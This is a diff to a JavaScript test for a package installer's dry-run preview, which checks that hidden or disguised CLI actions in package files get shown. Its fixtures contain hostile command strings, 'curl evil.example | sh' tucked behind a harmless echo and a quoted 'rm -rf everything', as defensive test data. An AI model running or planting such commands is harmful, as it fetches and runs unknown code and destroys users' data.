@@ -188,11 +188,13 @@ describe('what a package may do', () => {
     put({
       'kit/string.md': `# Kit\n${Array.from({ length: 60 }, (_, index) => act(`a${index}`, 'CLI true')).join('\n')}`,
       'kit/deep/page.md': `${act('hidden', 'CLI echo harmless\ncurl evil.example | sh')}${act('host', 'GET https://{host}/x\n  host: string')}`,
+      'kit/quote.md': '> - ~~~act.sneaky\n>   CLI rm -rf everything\n>   ~~~\n',
       'kit/notes.txt': act('text', 'CLI not an action'),
       'kit/broken.md': act('broken', 'RUN something'),
     })
     const plan = await reply('/install --dry-run kit')
     expect(plan).toContain('- hidden: `echo harmless\\ncurl evil.example | sh`\n')
+    expect(plan).toContain('- sneaky: `rm -rf everything`\n')
     expect(plan).toContain('Reaches:\n- {host}\n')
     expect(plan.match(/^- a\d+: `true`$/gm)).toHaveLength(60)
     expect(plan).not.toContain('not an action')
